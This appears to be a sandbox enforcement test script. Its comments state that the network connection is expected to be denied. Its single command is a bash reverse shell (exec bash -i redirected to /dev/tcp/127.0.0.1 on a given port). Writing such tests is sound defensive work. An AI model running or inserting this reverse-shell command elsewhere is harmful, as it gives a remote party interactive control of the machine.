#!/bin/bash
# tries: the one-line reverse shell of bash, to whoever waits
# must: never arrive there; no shell starts
# profile: shell
# run: bash {file} {port}
# expect: exit=1 status=exited verdict=violated rule=network-connect/deny
# expect: network=127.0.0.1:{port} listener=silent stderr-has="/dev/tcp/127.0.0.1/{port}"
# control: listener=reached
exec bash -i >& "/dev/tcp/127.0.0.1/$1" 0>&1
